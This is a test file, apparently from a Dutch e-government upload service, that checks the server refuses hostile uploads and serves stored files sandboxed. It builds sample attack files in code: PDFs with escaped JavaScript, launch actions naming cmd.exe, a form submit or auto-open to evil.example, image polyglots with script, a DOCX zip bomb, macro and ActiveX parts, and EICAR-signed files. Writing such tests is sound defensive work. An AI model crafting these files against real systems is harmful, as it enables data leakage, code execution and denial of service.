/**
 * Issue 18: hostile files that got past the first upload check, checked now by a PDF parser, the
 * DOCX package's directory, a markup search over the whole file and a real ClamAV daemon (started
 * by this file with an EICAR signature database it writes). Every refusal stores nothing and says
 * why; every malformed multipart body answers an envelope with a 4xx code.
 */
import { deflateSync } from 'node:zlib';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { eicar, startTestClamd } from '../test/clamd.js';
import { concat, MIME, sampleDocx, sampleJpeg, samplePdf, samplePng, sampleZip } from '../test/sample-files.js';
import { testApp } from '../test/support.js';
import { multipart, type Resident, uploadHarness } from '../test/uploads.js';

const clamd = await startTestClamd();
afterAll(() => clamd.stop());
const { app, db } = await testApp({ config: { MALWARE_SCANNER: 'clamav', CLAMAV_ADDRESS: clamd.address } });
const { resident, upload, call, storedCount, expectRefused, expectStored } = uploadHarness(app, db);

const ACTIVE = /active content/;

/** A PDF of the given objects (numbered from 1, the first the catalogue), with a trailer. */
function pdf(objects: string[], extra = ''): Uint8Array {
  const body = objects.map((object, i) => `${i + 1} 0 obj\n${object}\nendobj\n`).join('');
  return concat(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${body}${extra}trailer\n<< /Root 1 0 R >>\n%%EOF\n`);
}

const PAGES = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>'];

/** An object stream holding `objects` as objects 10, 11, ..., FlateDecode-compressed. */
function objectStream(objects: string[]): string {
  let offsets = '';
  let content = '';
  objects.forEach((object, i) => {
    offsets += `${10 + i} ${content.length} `;
    content += `${object}\n`;
  });
  const data = deflateSync(Buffer.from(offsets + content, 'latin1'));
  return `<< /Type /ObjStm /N ${objects.length} /First ${offsets.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

/** A ZIP whose central directory claims `size` uncompressed bytes for one entry (the bomb's signature). */
function zipClaiming(entries: Record<string, string>, claimed: Record<string, number>): Uint8Array {
  const zip = Buffer.from(sampleZip(entries));
  const end = zip.length - 22;
  let at = zip.readUInt32LE(end + 16);
  while (at < end) {
    const nameLength = zip.readUInt16LE(at + 28);
    const name = zip.toString('latin1', at + 46, at + 46 + nameLength);
    const size = claimed[name];
    if (size !== undefined) zip.writeUInt32LE(size, at + 24);
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  return new Uint8Array(zip);
}

const DOCX_PARTS = {
  '_rels/.rels': '<?xml version="1.0"?><Relationships/>',
  'word/document.xml': '<?xml version="1.0"?><w:document/>',
};
const contentTypes = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;

describe('issue 18: hostile files the content check now refuses', () => {
  let who: Resident;
  beforeEach(async () => {
    who = await resident({ MAX_UPLOAD_MB: '2' });
  });
  const refusedPdf = async (data: Uint8Array) =>
    expectRefused(
      await upload(who, { filename: 'bewijs.pdf', type: MIME.pdf, data }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE,
    );

  it('H1. a PDF whose JavaScript action is written with a name escape (/J#61vaScript)', async () => {
    await refusedPdf(
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
        ...PAGES,
        '<< /S /J#61vaScript /J#53 (app.alert(1)) >>',
      ]),
    );
  });

  it('H2. a PDF with a launch action written /L#61unch', async () => {
    await refusedPdf(pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES, '<< /S /L#61unch /F (cmd.exe) >>']));
  });

  it('H3. a PDF whose JavaScript sits in a compressed object stream', async () => {
    await refusedPdf(
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>',
        ...PAGES,
        objectStream(['<< /S /JavaScript /JS (app.alert(1)) >>']),
      ]),
    );
  });

  it('H4. a PDF whose embedded file sits in an object stream, with every letter escaped', async () => {
    await refusedPdf(
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /Names 10 0 R >>',
        ...PAGES,
        objectStream(['<< /#45#6d#62#65#64#64#65#64#46#69#6c#65#73 11 0 R >>', '<< /Names [(x.exe) 12 0 R] >>']),
      ]),
    );
  });

  it('H5. a PDF with an XFA form', async () => {
    await refusedPdf(
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 4 0 R /Fields [] >> >>',
        ...PAGES,
        '<< /Length 0 >>\nstream\n\nendstream',
      ]),
    );
  });

  it('H6. a PDF that opens a web address by itself (/OpenAction /URI)', async () => {
    await refusedPdf(
      pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example) >> >>', ...PAGES]),
    );
  });

  it('H7. a PDF page with an automatic action (/AA) that submits a form', async () => {
    await refusedPdf(
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        PAGES[0] as string,
        '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>',
      ]),
    );
  });

  it('H8. a PDF whose hidden OpenAction goes to a page but chains JavaScript with /Next', async () => {
    await refusedPdf(
      pdf([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >> >>',
        ...PAGES,
        '<< /S /Rendition /JS 5 0 R >>',
      ]),
    );
  });

  it('H9. a PDF that is an HTML page further on, past the first kilobyte (polyglot)', async () => {
    const padding = `%${'x'.repeat(4000)}\n`;
    await refusedPdf(
      pdf(
        ['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES],
        `${padding}%<html><script>alert(document.domain)</script>\n`,
      ),
    );
  });

  it('H10. a PNG with a script in a text chunk after the first kilobyte', async () => {
    const png = samplePng();
    const text = concat(`tEXt${'x'.repeat(3000)}<script>alert(1)</script>`);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(text.length - 4);
    const polyglot = concat(png.slice(0, 33), length, text, [0, 0, 0, 0], png.slice(33));
    await expectRefused(
      await upload(who, { filename: 'pasfoto.png', type: MIME.png, data: polyglot }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE,
    );
  });

  it('H11. a JPEG with an HTML page in a comment segment far in', async () => {
    const jpeg = sampleJpeg();
    const comment = `${'y'.repeat(2000)}<iframe src="javascript:alert(1)"></iframe>`;
    const segment = concat([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff], comment);
    const polyglot = concat(jpeg.slice(0, 2), segment, jpeg.slice(2));
    await expectRefused(
      await upload(who, { filename: 'pasfoto.jpg', type: MIME.jpeg, data: polyglot }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE,
    );
  });

  it('H12. a DOCX that expands to 200 MB (a zip bomb), found from the directory without inflating', async () => {
    const bomb = zipClaiming(
      {
        '[Content_Types].xml': contentTypes(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
        ),
        ...DOCX_PARTS,
        'word/media/big.bin': 'x',
      },
      {
        'word/media/big.bin': 200 * 1024 * 1024,
      },
    );
    await expectRefused(
      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: bomb }),
      who,
      'UPLOAD_FILE_EXPANDS',
      /unpacks to more than/,
    );
  });

  it('H13. a DOCX with more parts than a letter ever has', async () => {
    const parts: Record<string, string> = {
      '[Content_Types].xml': contentTypes(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      ),
      ...DOCX_PARTS,
    };
    for (let i = 0; i < 1200; i++) parts[`word/media/p${i}.xml`] = '<x/>';
    await expectRefused(
      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: sampleZip(parts) }),
      who,
      'UPLOAD_FILE_EXPANDS',
      /unpacks to more than/,
    );
  });

  it('H14. a macro-enabled document (.docm content type) renamed .docx, without a vbaProject.bin', async () => {
    const docm = sampleZip({
      '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
      ...DOCX_PARTS,
    });
    await expectRefused(
      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: docm }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE,
    );
  });

  it('H15. a DOCX with macros in a differently cased, moved vbaProject', async () => {
    const docx = sampleZip({
      '[Content_Types].xml': contentTypes(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      ),
      ...DOCX_PARTS,
      'word/VBAPROJECT.BIN': 'x',
    });
    await expectRefused(
      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: docx }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE,
    );
  });

  it('H16. a DOCX with an ActiveX control', async () => {
    const docx = sampleZip({
      '[Content_Types].xml': contentTypes(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      ),
      ...DOCX_PARTS,
      'word/activeX/activeX1.xml': '<ax/>',
    });
    await expectRefused(
      await upload(who, { filename: 'huur.docx', type: MIME.docx, data: docx }),
      who,
      'UPLOAD_FILE_ACTIVE_CONTENT',
      ACTIVE,
    );
  });

  it('H17. a PDF carrying a virus signature (EICAR), found by the real ClamAV daemon', async () => {
    const infected = pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGES], `%${eicar()}\n`);
    await expectRefused(
      await upload(who, { filename: 'bewijs.pdf', type: MIME.pdf, data: infected }),
      who,
      'UPLOAD_FILE_MALWARE',
      /virus/,
    );
  });

  it('H18. a PNG carrying a virus signature after its end', async () => {
    const infected = concat(samplePng(), eicar());
    await expectRefused(
      await upload(who, { filename: 'pasfoto.png', type: MIME.png, data: infected }),
      who,
      'UPLOAD_FILE_MALWARE',
      /virus/,
    );
  });

  it('H19. an object stream whose filter cannot be inspected', async () => {
    await refusedPdf(
      pdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        ...PAGES,
        '<< /Type /ObjStm /N 1 /First 5 /Filter /LZWDecode /Length 4 >>\nstream\nabcd\nendstream',
      ]),
    );
  });

  it('still accepts plain files: a PDF that opens at its first page, text naming /JavaScript, a PNG, a JPEG, a DOCX', async () => {
    const goTo = pdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>',
      ...PAGES,
      objectStream(['<< /Type /Annot /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> >>']),
      '<< /Length 44 >>\nstream\nBT (/JavaScript is just text here) Tj ET\nendstream',
    ]);
    const files = [
      { filename: 'a.pdf', type: MIME.pdf, data: goTo },
      { filename: 'b.pdf', type: MIME.pdf, data: samplePdf() },
      { filename: 'c.png', type: MIME.png, data: samplePng() },
      { filename: 'd.jpg', type: MIME.jpeg, data: sampleJpeg() },
      { filename: 'e.docx', type: MIME.docx, data: sampleDocx() },
    ];
    for (const file of files) {
      await expectStored(await upload(who, file), who);
      await db.deleteFrom('documents').where('tenant_id', '=', who.tenant.id).execute();
    }
  });

  it('refuses, storing nothing, when the scanner cannot be reached (fails closed)', async () => {
    const down = await testApp({
      config: { MALWARE_SCANNER: 'clamav', CLAMAV_ADDRESS: 'unix:/nonexistent/clamd.sock' },
    });
    const harness = uploadHarness(down.app, down.db);
    const someone = await harness.resident();
    await harness.expectRefused(
      await harness.upload(someone, { filename: 'a.pdf', type: MIME.pdf, data: samplePdf() }),
      someone,
      'UPLOAD_SCAN_UNAVAILABLE',
      /cannot be checked for viruses/,
    );
  });
});

describe('issue 18: the multipart body', () => {
  let who: Resident;
  beforeEach(async () => {
    who = await resident({ MAX_UPLOAD_MB: '1' });
  });
  const post = (contentType: string, payload: Buffer | string) =>
    app.inject({
      method: 'POST',
      url: `/${who.tenant.code}/services/eloket/upload_file`,
      headers: { 'content-type': contentType, cookie: who.cookie, 'accept-language': 'en' },
      payload,
    });
  const expect4xxEnvelope = (response: Awaited<ReturnType<typeof post>>) => {
    expect(response.statusCode, response.body).toBeGreaterThanOrEqual(400);
    expect(response.statusCode).toBeLessThan(500);
    const body = response.json();
    expect(body.messagetype).toBe('E');
    expect(body.statuscode).not.toBe('INTERNAL_ERROR');
    expect(body.statusmessage).not.toBe('');
  };

  it('answers a body without a boundary with a 4xx envelope', async () => {
    const body = multipart({ p_request_id: String(who.requestId) }, [{ filename: 'a.pdf', data: samplePdf() }]);
    expect4xxEnvelope(await post('multipart/form-data', body.payload));
  });

  it('answers a truncated body with a 4xx envelope', async () => {
    const body = multipart({ p_request_id: String(who.requestId) }, [{ filename: 'a.pdf', data: samplePdf() }]);
    expect4xxEnvelope(await post(body.contentType, body.payload.subarray(0, body.payload.length - 200)));
  });

  it('answers a boundary longer than 256 characters with a 4xx envelope', async () => {
    const boundary = 'b'.repeat(300);
    const payload = `--${boundary}\r\nContent-Disposition: form-data; name="p_request_id"\r\n\r\n1\r\n--${boundary}--\r\n`;
    expect4xxEnvelope(await post(`multipart/form-data; boundary=${boundary}`, payload));
  });

  it('answers garbage after a valid boundary with a 4xx envelope', async () => {
    expect4xxEnvelope(await post('multipart/form-data; boundary=abc', 'not a multipart body at all'));
    expect(await storedCount(db, who.tenant.id)).toBe(0);
  });

  it('cuts a 70 MB file off at the tenant’s limit and names the limit (no 64 MB read first)', async () => {
    const big = new Uint8Array(70 * 1024 * 1024);
    big.set(samplePdf().slice(0, 20));
    await expectRefused(
      await upload(who, { filename: 'groot.pdf', type: MIME.pdf, data: big }),
      who,
      'UPLOAD_FILE_TOO_LARGE',
      'This file is too large. Upload a file of 1Mb maximum.',
    );
  });
});

describe('issue 18: a stored document is served sandboxed', () => {
  it('answers get_document with a sandboxing policy besides nosniff and attachment', async () => {
    const who = await resident();
    const stored = await expectStored(await upload(who, { filename: 'a.pdf', type: MIME.pdf, data: samplePdf() }), who);
    const response = await call(who, 'get_document', { p_doc_id: String(stored.id) });
    expect(response.statusCode).toBe(200);
    const policy = String(response.headers['content-security-policy']);
    expect(policy).toContain('sandbox');
    expect(policy).toContain("default-src 'none'");
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(String(response.headers['content-disposition'])).toMatch(/^attachment;/);
  });
});
